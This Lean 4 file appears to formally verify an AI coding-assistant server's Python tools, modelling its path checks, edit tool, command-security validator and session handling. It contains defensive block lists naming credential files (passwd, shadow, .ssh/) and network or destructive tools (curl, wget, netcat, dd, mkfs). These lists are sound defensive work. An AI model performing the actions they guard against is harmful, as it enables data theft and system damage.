/-
Verification of the ai-cli server against its natural-language specification.

The Python modules under `server/` are shallowly embedded: each relevant
function is translated into an executable Lean definition operating on
`String` / `List Char` / association lists, and the specification claims are
proved (or refuted) as theorems about those definitions.

Conventions for the embedding of Python primitives:
  * `str.lower`, `str.strip`, `str.split`, `str.count`, `str.replace`,
    `in` (substring test) and `startswith`/`endswith` are modelled
    character-precisely for ASCII text (all inputs of interest are ASCII);
  * `pathlib` paths are modelled as lists of path components; `Path.resolve`
    is purely lexical (".." popping) — the spec itself notes the guard is
    "not a guarantee against symlink escapes", so symlinks are out of scope;
  * `dict` is modelled as an association list with the usual lookup, insert
    and delete semantics;
  * filesystem / clock / randomness effects are passed in explicitly
    (a `projectDirOk` flag, `now : Nat` timestamps, a sampler function).
-/
import Mathlib

namespace AiCli

/-! ## Python string primitives -/

/-- Characters on which Python `str.strip()` strips by default. -/
def isPySpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- Python `str.strip()` (default whitespace stripping). -/
def pyStrip (s : String) : String :=
  ⟨((s.toList.dropWhile isPySpace).reverse.dropWhile isPySpace).reverse⟩

/-- Python `str.lower()` (ASCII case folding suffices for all inputs used). -/
def pyLower (s : String) : String :=
  ⟨s.toList.map Char.toLower⟩

/-- Python `s.lstrip(c)` for a single strip character: drop every leading `c`. -/
def pyLStripChar (c : Char) (s : String) : String :=
  ⟨s.toList.dropWhile (· = c)⟩

/-- Python substring test `needle in hay` on character lists. -/
def containsSub (needle : List Char) : List Char → Bool
  | [] => needle.isPrefixOf []
  | c :: t => needle.isPrefixOf (c :: t) || containsSub needle t

/-- Python substring test `needle in hay` on strings. -/
def containsSubStr (needle hay : String) : Bool :=
  containsSub needle.toList hay.toList

/-- Fuel-driven scanner behind `pyCountList` (fuel keeps the recursion
structural; any fuel at least the hay length gives the same answer). -/
def pyCountGo (n : Char) (ns : List Char) : Nat → List Char → Nat
  | _, [] => 0
  | 0, _ :: _ => 0
  | fuel + 1, c :: t =>
    if (n :: ns).isPrefixOf (c :: t) then pyCountGo n ns fuel (t.drop ns.length) + 1
    else pyCountGo n ns fuel t

/-- Python `hay.count(needle)` for a nonempty needle `n :: ns`:
number of non-overlapping occurrences, scanning from the left. -/
def pyCountList (n : Char) (ns : List Char) (l : List Char) : Nat :=
  pyCountGo n ns l.length l

/-- Fuel-driven scanner behind `pyReplaceList`. -/
def pyReplaceGo (n : Char) (ns rep : List Char) : Nat → List Char → List Char
  | _, [] => []
  | 0, l@(_ :: _) => l
  | fuel + 1, c :: t =>
    if (n :: ns).isPrefixOf (c :: t) then rep ++ pyReplaceGo n ns rep fuel (t.drop ns.length)
    else c :: pyReplaceGo n ns rep fuel t

/-- Python `hay.replace(needle, rep)` for a nonempty needle `n :: ns`:
replace every non-overlapping occurrence, scanning from the left. -/
def pyReplaceList (n : Char) (ns rep : List Char) (l : List Char) : List Char :=
  pyReplaceGo n ns rep l.length l

lemma pyCountGo_congr (n : Char) (ns : List Char) :
    ∀ f₁ f₂ l, l.length ≤ f₁ → l.length ≤ f₂ →
      pyCountGo n ns f₁ l = pyCountGo n ns f₂ l := by
  intro f₁
  induction f₁ with
  | zero =>
    intro f₂ l h₁ _
    cases l with
    | nil => cases f₂ <;> rfl
    | cons c t => simp at h₁
  | succ g₁ ih =>
    intro f₂ l h₁ h₂
    cases l with
    | nil => cases f₂ <;> rfl
    | cons c t =>
      cases f₂ with
      | zero => simp at h₂
      | succ g₂ =>
        simp only [pyCountGo]
        have hd : (t.drop ns.length).length ≤ t.length := by
          rw [List.length_drop]
          omega
        simp only [List.length_cons, Nat.succ_le_succ_iff] at h₁ h₂
        split
        · rw [ih g₂ (t.drop ns.length) (le_trans hd h₁) (le_trans hd h₂)]
        · rw [ih g₂ t h₁ h₂]

/-- The defining unfolding of `pyCountList` on a nonempty hay. -/
lemma pyCountList_cons (n : Char) (ns : List Char) (c : Char) (t : List Char) :
    pyCountList n ns (c :: t) =
      if (n :: ns).isPrefixOf (c :: t) then pyCountList n ns (t.drop ns.length) + 1
      else pyCountList n ns t := by
  unfold pyCountList
  simp only [List.length_cons, pyCountGo]
  have hd : (t.drop ns.length).length ≤ t.length := by
    rw [List.length_drop]
    omega
  split
  · rw [pyCountGo_congr n ns t.length (t.drop ns.length).length _ hd le_rfl]
  · rfl

lemma pyCountList_nil (n : Char) (ns : List Char) : pyCountList n ns [] = 0 := rfl

/-- Python `hay.count(needle)` on strings (`needle.count("")` edge included). -/
def pyCountStr (needle hay : String) : Nat :=
  match needle.toList with
  | [] => hay.length + 1
  | n :: ns => pyCountList n ns hay.toList

/-- Python `s.split(sep)` for a one-character separator: keeps empty pieces. -/
def splitOnCharAux (sep : Char) : List Char → List Char → List (List Char)
  | [], acc => [acc.reverse]
  | c :: t, acc =>
    if c = sep then acc.reverse :: splitOnCharAux sep t []
    else splitOnCharAux sep t (c :: acc)

/-- Python `s.split(sep)` for a one-character separator, on strings. -/
def pySplitChar (sep : Char) (s : String) : List String :=
  (splitOnCharAux sep s.toList []).map (fun l => (⟨l⟩ : String))

/-- Python `s.startswith(c)` for a one-character needle (kernel-reducible). -/
def startsWithChar (c : Char) (s : String) : Bool :=
  match s.toList with
  | [] => false
  | c₀ :: _ => c₀ = c

/-- Python `s.endswith(c)` for a one-character needle. -/
def endsWithChar (c : Char) (s : String) : Bool :=
  match s.toList.getLast? with
  | some c₀ => c₀ = c
  | none => false

/-- Join strings with a separator character (kernel-reducible
`String.intercalate`). -/
def joinWith (sep : Char) : List String → List Char
  | [] => []
  | [p] => p.toList
  | p :: q :: r => p.toList ++ sep :: joinWith sep (q :: r)

/-- Python `f"{n:3d}"`-style right alignment used by the edit tool context. -/
def padLeft (w : Nat) (s : String) : String :=
  if s.length < w then (⟨List.replicate (w - s.length) ' '⟩ : String) ++ s else s

/-! ## `pathlib` model

A POSIX path is modelled by its list of components.  `parseParts` mirrors
`PurePosixPath` construction (empty components and "." are dropped, ".." is
kept); `resolveParts` mirrors the lexical part of `Path.resolve()` on an
absolute path (".." pops one component, and stays at the root when there is
nothing to pop).  All project paths in the service are absolute. -/

/-- Components of a path string, as `PurePosixPath` normalises them. -/
def parseParts (s : String) : List String :=
  (pySplitChar '/' s).filter (fun c => !(c == "") && !(c == "."))

/-- Lexical resolution of an absolute component list (`Path.resolve`). -/
def resolveParts (cs : List String) : List String :=
  cs.foldl (fun acc c => if c = ".." then acc.dropLast else acc ++ [c]) []

/-- Canonical components of an absolute path string. -/
def resolveAbs (s : String) : List String :=
  resolveParts (parseParts s)

/-- `str(path)` for an absolute component list (`[]` renders as `"/"`). -/
def pathStr (cs : List String) : String :=
  "/" ++ (⟨joinWith '/' cs⟩ : String)

/-! ## Filesystem tools: shared path resolution

Embedding of `ReadFileTool._resolve_file_path`,
`WriteFileTool._resolve_file_path` and `EditFileTool._resolve_file_path`.
The existence/directory check on `project_path` is passed in as the
`projectDirOk` flag. -/

inductive ResolveResult where
  | ok (parts : List String)
  | err (msg : String)
deriving DecidableEq

/-- The `file_path` value after the tools' leading-slash handling:
`if file_path.startswith('/'): file_path = file_path.lstrip('/')`. -/
def stripLeading (filePath : String) : String :=
  if startsWithChar '/' filePath then pyLStripChar '/' filePath else filePath

/-- `(project_dir / file_path).resolve()` for the already-stripped relative
`file_path` (concatenate components, then resolve lexically). -/
def joinedResolved (projectPath filePath : String) : List String :=
  resolveParts (parseParts projectPath ++ parseParts (stripLeading filePath))

/-- `ReadFileTool._resolve_file_path` (read_file_tool.py lines 243-274). -/
def resolveFilePathRead (projectDirOk : Bool) (projectPath filePath : String) :
    ResolveResult :=
  if !projectDirOk then .err ("Invalid project directory: " ++ projectPath)
  else
    let fp := stripLeading filePath
    let full := joinedResolved projectPath filePath
    if (resolveAbs projectPath).isPrefixOf full then .ok full
    else .err ("Path outside project directory: " ++ fp)

/-- Blocked substrings shared by `WriteFileTool` and `EditFileTool`. -/
def BLOCKED_PATTERNS : List String :=
  ["/etc/", "/usr/", "/var/", "/sys/", "/proc/", "/dev/",
   "passwd", "shadow", "sudoers", ".ssh/", ".git/config"]

/-- `path_str = str(full_path).lower()` pattern scan of the write/edit tools. -/
def blockedHit (fullParts : List String) : Bool :=
  BLOCKED_PATTERNS.any (fun p => containsSubStr p (pyLower (pathStr fullParts)))

/-- `WriteFileTool._resolve_file_path` (write_file_tool.py lines 154-191). -/
def resolveFilePathWrite (projectDirOk : Bool) (projectPath filePath : String) :
    ResolveResult :=
  if !projectDirOk then .err ("Invalid project directory: " ++ projectPath)
  else
    let fp := stripLeading filePath
    let full := joinedResolved projectPath filePath
    if (resolveAbs projectPath).isPrefixOf full then
      if blockedHit full then .err ("Cannot write to system location: " ++ fp)
      else .ok full
    else .err ("Path outside project directory: " ++ fp)

/-- `EditFileTool._resolve_file_path` (edit_file_tool.py lines 227-264). -/
def resolveFilePathEdit (projectDirOk : Bool) (projectPath filePath : String) :
    ResolveResult :=
  if !projectDirOk then .err ("Invalid project directory: " ++ projectPath)
  else
    let fp := stripLeading filePath
    let full := joinedResolved projectPath filePath
    if (resolveAbs projectPath).isPrefixOf full then
      if blockedHit full then .err ("Cannot edit system file: " ++ fp)
      else .ok full
    else .err ("Path outside project directory: " ++ fp)

/-- Resolution as the claim for C1 words it: a SINGLE leading `/` is stripped
from `file_path`, the joined path is resolved (a still-absolute `file_path`
replaces the project directory under `pathlib` join), and the canonical
result must lie inside the canonical project directory. -/
def specResolveSingleStrip (projectDirOk : Bool) (projectPath filePath : String) :
    ResolveResult :=
  if !projectDirOk then .err ("Invalid project directory: " ++ projectPath)
  else
    let fp := if startsWithChar '/' filePath then (⟨filePath.toList.drop 1⟩ : String)
              else filePath
    let joined :=
      if startsWithChar '/' fp then parseParts fp
      else parseParts projectPath ++ parseParts fp
    let full := resolveParts joined
    if (resolveAbs projectPath).isPrefixOf full then .ok full
    else .err ("Path outside project directory: " ++ fp)

/-- Resolution as the amended claim C1 words it: ALL leading `/` characters
are stripped from `file_path`, the joined path is canonically resolved and
the canonical result must lie inside the canonical project directory. -/
def specResolveAllStrip (projectDirOk : Bool) (projectPath filePath : String) :
    ResolveResult :=
  if !projectDirOk then .err ("Invalid project directory: " ++ projectPath)
  else
    let fp := pyLStripChar '/' filePath
    let full := resolveParts (parseParts projectPath ++ parseParts fp)
    if (resolveAbs projectPath).isPrefixOf full then .ok full
    else .err ("Path outside project directory: " ++ fp)

/-! ## WriteFileTool: line counting (write_file_tool.py lines 112-118) -/

/-- `lines_written` as computed by `WriteFileTool.execute`: editor semantics
(a final newline does not open a new line). -/
def linesWritten (content : String) : Nat :=
  if content = "" then 0
  else if endsWithChar '\n' content then max 1 (pyCountStr "\n" content)
  else pyCountStr "\n" content + 1

/-! ## EditFileTool: find-and-replace core (edit_file_tool.py lines 121-206)

The embedding works at the level of the already-read file content; the
path-resolution, existence and size guards occur before this core. -/

/-- A character matched by the regex `\w` (ASCII scope). -/
def isWordChar (c : Char) : Bool :=
  c.isAlphanum || c = '_'

/-- Maximal `\w+` runs of a string, as `re.findall` returns them. -/
def wordsAux : List Char → List Char → List String
  | [], acc => if acc.isEmpty then [] else [(⟨acc.reverse⟩ : String)]
  | c :: t, acc =>
    if isWordChar c then wordsAux t (c :: acc)
    else if acc.isEmpty then wordsAux t []
    else (⟨acc.reverse⟩ : String) :: wordsAux t []

/-- `re.findall(r"\w+", s)`. -/
def reWords (s : String) : List String :=
  wordsAux s.toList []

/-- Python `hay.replace(needle, rep)` on strings (the tool only calls it
with a nonempty needle, which the match guards). -/
def pyReplaceStr (needle rep hay : String) : String :=
  match needle.toList with
  | [] => hay
  | n :: ns => ⟨pyReplaceGo n ns rep.toList hay.toList.length hay.toList⟩

/-- Index of the first file line sharing a significant keyword (length > 2)
with the first line of `old_text` (the similar-context scan of
`EditFileTool`). -/
def similarIdx (content oldText : String) : Option Nat :=
  let keywords := reWords (pyLower (pyStrip ((pySplitChar '\n' oldText).headD "")))
  (pySplitChar '\n' content).findIdx? (fun line =>
    !keywords.isEmpty &&
      keywords.any (fun w => w.length > 2 && (reWords (pyLower line)).contains w))

/-- Rendering of gathered context lines (numbered from `start + 1`). -/
def ctxRender (contextLines : List String) (start : Nat) : String :=
  if contextLines.isEmpty then "Text not found in file"
  else
    "Text not found. Similar content found:\n" ++
      (⟨joinWith '\n' (contextLines.enum.map (fun p =>
          padLeft 3 (toString (start + p.1 + 1)) ++ "│ " ++ p.2))⟩ : String)

/-- The numbered context block rendered around matched line `i`
(`lines[max(0, i-2) : min(len(lines), i+5)]`). -/
def contextBlock (lines : List String) (i : Nat) : String :=
  ctxRender ((lines.drop (i - 2)).take (min lines.length (i + 5) - (i - 2))) (i - 2)

/-- The error message of the zero-occurrence branch of `EditFileTool`:
keyword-based similar-context search over the file's lines. -/
def editNotFoundMsg (content oldText : String) : String :=
  match similarIdx content oldText with
  | none => "Text not found in file"
  | some i => contextBlock (pySplitChar '\n' content) i

/-- Observable outcome of one `EditFileTool.execute` call on a readable
in-project file: status, error, resulting file content, and whether a
`.backup` copy was made. -/
structure EditOutcome where
  success : Bool
  error : Option String
  finalContent : String
  backupCreated : Bool
deriving DecidableEq

/-- The find-and-replace core of `EditFileTool.execute`: occurrence checks,
then backup and single-occurrence replacement. -/
def editFileOp (content oldText newText : String) : EditOutcome :=
  if oldText = "" then ⟨false, some "Old text cannot be empty", content, false⟩
  else if containsSubStr oldText content = false then
    ⟨false, some (editNotFoundMsg content oldText), content, false⟩
  else
    let occ := pyCountStr oldText content
    if occ > 1 then
      ⟨false, some ("Text appears " ++ toString occ ++
        " times in file. Please be more specific to match exactly one occurrence."),
        content, false⟩
    else ⟨true, none, pyReplaceStr oldText newText content, true⟩

/-! ## RunCommandTool: security validation (run_command_tool.py lines 178-238)

`shlex.split` (POSIX mode) is modelled as a character-driven state machine:
outside quotes, whitespace separates tokens and a backslash escapes the next
character; single quotes are literal; inside double quotes a backslash
escapes only `"` and `\`.  An unterminated quote or trailing escape yields
the `ValueError` messages shlex raises. -/

deriving instance DecidableEq for Except

/-- An apostrophe, as a string (used in the blocked-command message). -/
def squoteStr : String :=
  ⟨[Char.ofNat 39]⟩

/-- The characters `shlex` treats as token whitespace. -/
def isShlexWs (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\r' || c = '\n'

/-- Lexer states of the `shlex.split` model. -/
inductive LexSt where
  | norm
  | inSingle
  | inDouble
  | escNorm
  | escDouble

/-- One-pass POSIX `shlex` tokenizer (structural on the input characters). -/
def shlexGo : List Char → LexSt → List Char → Bool → Except String (List String)
  | [], st, cur, inTok =>
    match st with
    | .norm => .ok (if inTok then [(⟨cur.reverse⟩ : String)] else [])
    | .inSingle | .inDouble => .error "No closing quotation"
    | .escNorm | .escDouble => .error "No escaped character"
  | c :: t, st, cur, inTok =>
    match st with
    | .norm =>
      if isShlexWs c then
        match shlexGo t .norm [] false with
        | .ok toks => .ok (if inTok then (⟨cur.reverse⟩ : String) :: toks else toks)
        | .error m => .error m
      else if c = Char.ofNat 39 then shlexGo t .inSingle cur true
      else if c = '"' then shlexGo t .inDouble cur true
      else if c = '\\' then shlexGo t .escNorm cur true
      else shlexGo t .norm (c :: cur) true
    | .inSingle =>
      if c = Char.ofNat 39 then shlexGo t .norm cur true
      else shlexGo t .inSingle (c :: cur) true
    | .inDouble =>
      if c = '"' then shlexGo t .norm cur true
      else if c = '\\' then shlexGo t .escDouble cur true
      else shlexGo t .inDouble (c :: cur) true
    | .escNorm => shlexGo t .norm (c :: cur) true
    | .escDouble =>
      if c = '"' || c = '\\' then shlexGo t .inDouble (c :: cur) true
      else shlexGo t .inDouble (c :: '\\' :: cur) true

/-- `shlex.split(s)` (POSIX mode). -/
def shlexSplit (s : String) : Except String (List String) :=
  shlexGo s.toList .norm [] false

/-- A command-chain separator character (`re.split(r"[;&|]+", ...)`). -/
def isSepChar (c : Char) : Bool :=
  c = ';' || c = '&' || c = '|'

mutual

/-- Piece accumulator of the `[;&|]+` splitter. -/
def splitSepsGo : List Char → List Char → List String
  | [], acc => [(⟨acc.reverse⟩ : String)]
  | c :: t, acc =>
    if isSepChar c then (⟨acc.reverse⟩ : String) :: skipSeps t
    else splitSepsGo t (c :: acc)

/-- Consumes the remainder of a separator run, then resumes a new piece. -/
def skipSeps : List Char → List String
  | [] => [("" : String)]
  | c :: t =>
    if isSepChar c then skipSeps t
    else splitSepsGo t [c]

end

/-- `re.split(r"[;&|]+", command)`: pieces between runs of `;`, `&`, `|`. -/
def splitSeps (command : String) : List String :=
  splitSepsGo command.toList []

/-- `RunCommandTool.BLOCKED_COMMANDS`. -/
def BLOCKED_COMMANDS : List String :=
  ["del", "format", "fdisk", "mkfs",
   "dd", "shred", "wipe", "shutdown", "reboot", "halt",
   "sudo", "su", "passwd", "chmod", "chown", "chgrp",
   "mount", "umount", "kill", "killall", "pkill"]

/-- The `dangerous_patterns` list of `_validate_command_security`
(the twelfth entry is a backtick). -/
def dangerousPatterns : List String :=
  ["> /dev/", ">/dev/",
   "curl", "wget", "nc ", "netcat",
   "&& del ", "; del ",
   "eval", "exec", "$(", "`",
   "os.system", "subprocess.call", "subprocess.run"]

/-- Result record of `_validate_command_security`. -/
structure SecCheck where
  safe : Bool
  reason : String
deriving DecidableEq

/-- `parts[0].split('/')[-1]`: the last path segment of a token. -/
def lastSegment (tok : String) : String :=
  (pySplitChar '/' tok).getLastD ""

/-- The per-sub-command loop of `_validate_command_security`: skip blank
pieces, shell-tokenize each piece, and reject a blocked base command. -/
def checkParts : List String → SecCheck
  | [] => ⟨true, "Command passed security validation"⟩
  | part :: rest =>
    if pyStrip part = "" then checkParts rest
    else
      match shlexSplit (pyStrip part) with
      | .error m => ⟨false, "Invalid command syntax: " ++ m⟩
      | .ok [] => checkParts rest
      | .ok (tok :: _) =>
        if BLOCKED_COMMANDS.contains (pyLower (lastSegment tok)) then
          ⟨false, "Command " ++ squoteStr ++ pyLower (lastSegment tok) ++ squoteStr ++
            " is blocked for security"⟩
        else checkParts rest

/-- `RunCommandTool._validate_command_security`. -/
def validateCommandSecurity (command : String) : SecCheck :=
  if pyStrip command = "" then ⟨false, "Empty command"⟩
  else
    match dangerousPatterns.find? (fun p => containsSubStr p (pyLower command)) with
    | some p => ⟨false, "Command contains dangerous pattern: " ++ p⟩
    | none => checkParts (splitSeps command)

/-- What `RunCommandTool.execute` does before handing the command to the
subprocess shell. -/
inductive ExecGate where
  | emptyCmd (err : String)
  | blocked (err : String)
  | invalidDir (err : String)
  | ran (command : String)
deriving DecidableEq

/-- The gating part of `RunCommandTool.execute` (lines 80-116): strip, empty
check, security validation, project-directory check, then run. -/
def runCommandExecute (projectDirOk : Bool) (projectPath rawCommand : String) :
    ExecGate :=
  let command := pyStrip rawCommand
  if command = "" then .emptyCmd "Command cannot be empty"
  else
    let sc := validateCommandSecurity command
    if !sc.safe then .blocked ("Command blocked for security: " ++ sc.reason)
    else if !projectDirOk then
      .invalidDir ("Invalid project directory: " ++ projectPath)
    else .ran command

/-! ## Shared conversational records (core/base_types.py)

`ToolCall.arguments` is an opaque JSON object, modelled as an association
list of strings; none of the verified properties inspect argument values. -/

structure ToolCall where
  id : String
  name : String
  arguments : List (String × String) := []
deriving DecidableEq

/-- `ChatMessage`: `tool_calls` is `None` or a list (Python truthiness
distinguishes `None`/`[]` from a nonempty list); `tool_call_id` is set on
tool-role messages (and by this system's convention holds the tool name). -/
structure Msg where
  role : String
  content : String
  toolCalls : Option (List ToolCall) := none
  toolCallId : Option String := none
deriving DecidableEq

/-- Python truthiness of `msg.tool_calls`. -/
def msgHasToolCalls (m : Msg) : Bool :=
  match m.toolCalls with
  | some (_ :: _) => true
  | _ => false

/-! ## GeminiProvider.parse_response (gemini_provider.py lines 244-315)

A raw Gemini response is modelled structurally: a part carries an optional
`text` and an optional `functionCall` (the Python code tests the `"text"`
key first); fresh tool-call identifiers come from the injected `idGen`
(timestamp + randomness in the source). -/

structure GPart where
  text : Option String := none
  functionCall : Option (String × List (String × String)) := none
deriving DecidableEq

structure GCandidate where
  parts : List GPart := []
  finishReason : Option String := none
deriving DecidableEq

structure GUsage where
  promptTokens : Nat
  completionTokens : Nat
  totalTokens : Nat
deriving DecidableEq

structure GRawResponse where
  candidates : List GCandidate := []
  blockReason : Option String := none
  usageMetadata : Option GUsage := none
deriving DecidableEq

structure ChatResponse where
  content : String
  model : String
  usage : Option GUsage
  finishReason : String
  provider : String
  toolCalls : List ToolCall
  requiresToolExecution : Bool
deriving DecidableEq

/-- The parts loop of `parse_response`: concatenate `text` parts, convert
each `functionCall` part to a `ToolCall` (id from `idGen`). -/
def extractGo (idGen : Nat → String) :
    List GPart → String → List ToolCall → String × List ToolCall
  | [], content, tcs => (content, tcs)
  | p :: rest, content, tcs =>
    match p.text with
    | some t => extractGo idGen rest (content ++ t) tcs
    | none =>
      match p.functionCall with
      | some (nm, args) =>
        extractGo idGen rest content (tcs ++ [⟨idGen tcs.length, nm, args⟩])
      | none => extractGo idGen rest content tcs

/-- Content and tool calls extracted from a candidate's parts. -/
def extractParts (idGen : Nat → String) (parts : List GPart) :
    String × List ToolCall :=
  extractGo idGen parts "" []

/-- `GeminiProvider.parse_response`. -/
def geminiParseResponse (idGen : Nat → String) (model : String)
    (raw : GRawResponse) : ChatResponse :=
  match raw.candidates with
  | [] =>
    ⟨"", model, none,
      (match raw.blockReason with
       | some r => "blocked_" ++ r
       | none => "stop"),
      "gemini", [], false⟩
  | cand :: _ =>
    ⟨(extractParts idGen cand.parts).1, model, raw.usageMetadata,
      (if pyLower (cand.finishReason.getD "STOP") = "stop" then "stop"
       else if 0 < (extractParts idGen cand.parts).2.length then "tool_calls"
       else pyLower (cand.finishReason.getD "STOP")),
      "gemini", (extractParts idGen cand.parts).2,
      decide (0 < (extractParts idGen cand.parts).2.length)⟩

/-! ## EchoTestProvider (echo_test_provider.py)

The `call N tool(s) M time(s)` regex search is modelled as a leftmost-match
scanner; `random.sample` and `_create_test_tool_call` are injected
(`sample`, `mkCall`) since their outputs are random. -/

/-- Consume one-or-more regex `\s` characters (maximal munch). -/
def takeWs1 : List Char → Option (List Char)
  | [] => none
  | c :: t => if isPySpace c then some (t.dropWhile isPySpace) else none

/-- Decimal value of a digit run. -/
def digitsToNat (ds : List Char) : Nat :=
  ds.foldl (fun a c => a * 10 + (c.toNat - 48)) 0

/-- Consume one-or-more digits (`\d+`, maximal munch). -/
def takeDigits1 (l : List Char) : Option (Nat × List Char) :=
  if (l.takeWhile Char.isDigit).isEmpty then none
  else some (digitsToNat (l.takeWhile Char.isDigit), l.dropWhile Char.isDigit)

/-- Consume a literal character sequence. -/
def stripLit : List Char → List Char → Option (List Char)
  | [], l => some l
  | _ :: _, [] => none
  | c :: cs, x :: xs => if x = c then stripLit cs xs else none

/-- The tail of the command pattern after `tools?`:
`\s+(\d+)\s+times?` (the trailing `s` is optional and unchecked). -/
def matchCmdTail (r : List Char) : Option Nat :=
  match takeWs1 r with
  | none => none
  | some r₅ =>
    match takeDigits1 r₅ with
    | none => none
    | some (m, r₆) =>
      match takeWs1 r₆ with
      | none => none
      | some r₇ =>
        match stripLit "time".toList r₇ with
        | none => none
        | some _ => some m

/-- Try the pattern `call\s+(\d+)\s+tools?\s+(\d+)\s+times?` at one
position; `tools?` backtracks over the optional `s`. -/
def matchCmdAt (l : List Char) : Option (Nat × Nat) :=
  match stripLit "call".toList l with
  | none => none
  | some r₀ =>
    match takeWs1 r₀ with
    | none => none
    | some r₁ =>
      match takeDigits1 r₁ with
      | none => none
      | some (n, r₂) =>
        match takeWs1 r₂ with
        | none => none
        | some r₃ =>
          match stripLit "tool".toList r₃ with
          | none => none
          | some r₄ =>
            match r₄ with
            | 's' :: r₄' =>
              (match matchCmdTail r₄' with
               | some m => some (n, m)
               | none =>
                 match matchCmdTail r₄ with
                 | some m => some (n, m)
                 | none => none)
            | _ =>
              match matchCmdTail r₄ with
              | some m => some (n, m)
              | none => none

/-- `re.search` of the command pattern: leftmost match. -/
def searchCmd : List Char → Option (Nat × Nat)
  | [] => none
  | c :: t =>
    match matchCmdAt (c :: t) with
    | some r => some r
    | none => searchCmd t

/-- Does a message content match the command pattern (after lowering)? -/
def hasCmd (content : String) : Bool :=
  (searchCmd (pyLower content).toList).isSome

/-- The history fallback of `_parse_tool_command`: scan `reversed(messages)`
for the first user message whose content matches. -/
def findCmdInHistory : List Msg → Option (Nat × Nat)
  | [] => none
  | m :: rest =>
    if m.role = "user" then
      match searchCmd (pyLower m.content).toList with
      | some r => some r
      | none => findCmdInHistory rest
    else findCmdInHistory rest

/-- Match selection of `_parse_tool_command`: current message first, then
the reversed history. -/
def findCmdMatch (message : String) (messages : List Msg) : Option (Nat × Nat) :=
  match searchCmd (pyLower message).toList with
  | some r => some r
  | none => findCmdInHistory messages.reverse

/-- The round-counting anchor: `for i, msg in enumerate(messages): ... break`
— the FIRST (earliest) user message matching the pattern, despite the
source comment calling it the latest. -/
def firstCmdIdx (messages : List Msg) : Option Nat :=
  messages.findIdx? (fun m => m.role == "user" && hasCmd m.content)

/-- `tool_rounds_completed` as the code computes it: assistant messages
carrying tool calls strictly after `firstCmdIdx`. -/
def roundsCompleted (messages : List Msg) : Nat :=
  match firstCmdIdx messages with
  | none => 0
  | some i =>
    ((messages.drop (i + 1)).filter
      (fun m => m.role == "assistant" && msgHasToolCalls m)).length

/-- The forward scan of `generate` for the first user message with a match,
returning the match itself. -/
def firstCmdMatchGo : List Msg → Option (Nat × Nat)
  | [] => none
  | m :: rest =>
    if m.role = "user" then
      match searchCmd (pyLower m.content).toList with
      | some r => some r
      | none => firstCmdMatchGo rest
    else firstCmdMatchGo rest

/-- A tool definition (only the name is relevant to the verified flow). -/
structure ToolDef where
  name : String
deriving DecidableEq

/-- `EchoTestProvider._parse_tool_command`: emit a fresh batch only when the
completed rounds are below the clamped iteration target. -/
def parseToolCommand (sample : List ToolDef → Nat → List ToolDef)
    (mkCall : ToolDef → Nat → Nat → ToolCall)
    (availableTools : List ToolDef) (message : String) (messages : List Msg) :
    List ToolCall :=
  match findCmdMatch message messages with
  | none => []
  | some (n, m) =>
    if availableTools.isEmpty then []
    else if min m 3 ≤ roundsCompleted messages then []
    else
      (sample availableTools
          (min (min (min n availableTools.length) 5) availableTools.length)).enum.map
        (fun p => mkCall p.2 (roundsCompleted messages) p.1)

/-- The last user message of the conversation (`"No user message found"`
when there is none or its content is empty, by Python truthiness). -/
def lastUserMessage (messages : List Msg) : String :=
  match messages.reverse.find? (fun m => m.role == "user") with
  | some m => if m.content = "" then "No user message found" else m.content
  | none => "No user message found"

/-- Result of one `EchoTestProvider.generate` call. -/
structure EchoResp where
  content : String
  toolCalls : List ToolCall
  finishReason : String
deriving DecidableEq

/-- `EchoTestProvider.generate` (echo_test_provider.py lines 187-275). -/
def echoGenerate (sample : List ToolDef → Nat → List ToolDef)
    (mkCall : ToolDef → Nat → Nat → ToolCall)
    (tools : List ToolDef) (messages : List Msg) : EchoResp :=
  ⟨(if 0 < (parseToolCommand sample mkCall tools (lastUserMessage messages)
        messages).length then
      "Echo: " ++ lastUserMessage messages ++ "\n\n🔧 Calling " ++
        toString (parseToolCommand sample mkCall tools (lastUserMessage messages)
          messages).length ++ " tools as requested..."
    else if 0 < roundsCompleted messages then
      match firstCmdMatchGo messages with
      | some (_, m) =>
        if roundsCompleted messages < m then
          "Echo: Completed tool round " ++ toString (roundsCompleted messages) ++
            ". Continuing with more tools..."
        else
          "Echo: All " ++ toString (roundsCompleted messages) ++
            " tool rounds completed successfully!"
      | none => "Echo: Tool execution completed."
    else "Echo: " ++ lastUserMessage messages),
   parseToolCommand sample mkCall tools (lastUserMessage messages) messages,
   (if (parseToolCommand sample mkCall tools (lastUserMessage messages)
        messages).isEmpty then "stop" else "tool_calls")⟩

/-- Rounds completed as claim C6 (and the source's own comments) word it:
assistant turns carrying tool calls after the MOST RECENT user message
matching the command pattern. -/
def specRoundsMostRecent (messages : List Msg) : Nat :=
  match messages.reverse.findIdx? (fun m => m.role == "user" && hasCmd m.content) with
  | none => 0
  | some j =>
    ((messages.drop (messages.length - j)).filter
      (fun m => m.role == "assistant" && msgHasToolCalls m)).length

/-- The C6 failing conversation: a completed 3-round command followed by a
fresh `call 1 tool 2 times` command. -/
def c6messages : List Msg :=
  [⟨"user", "call 1 tool 3 times", none, none⟩,
   ⟨"assistant", "Echo round", some [⟨"test_call_0_0_1111", "run_command", []⟩], none⟩,
   ⟨"assistant", "Echo round", some [⟨"test_call_1_0_2222", "run_command", []⟩], none⟩,
   ⟨"assistant", "Echo round", some [⟨"test_call_2_0_3333", "run_command", []⟩], none⟩,
   ⟨"user", "call 1 tool 2 times", none, none⟩]

/-- The available tools for the C6 failing input. -/
def c6tools : List ToolDef :=
  [⟨"run_command"⟩]

/-! ## SessionManager (core/session_manager.py)

The two dictionaries (`sessions : session_id -> session` and
`project_sessions : project_id -> session_id`) are association lists;
`uuid.uuid4()` freshness and `time.time()` are injected (`newId`, `now`). -/

/-- `ConversationSession` (the chat-manager payload is irrelevant here). -/
structure Session where
  sessionId : String
  projectId : Int
  projectPath : String
  createdAt : Nat
  lastActivity : Nat
deriving DecidableEq

/-- Dictionary lookup (`m.get(k)` / `m[k]`). -/
def dget {α β : Type} [DecidableEq α] (k : α) : List (α × β) → Option β
  | [] => none
  | (k₀, v) :: t => if k₀ = k then some v else dget k t

/-- Dictionary deletion (`del m[k]`). -/
def ddel {α β : Type} [DecidableEq α] (k : α) : List (α × β) → List (α × β)
  | [] => []
  | (k₀, v) :: t => if k₀ = k then ddel k t else (k₀, v) :: ddel k t

/-- Dictionary insertion/overwrite (`m[k] = v`). -/
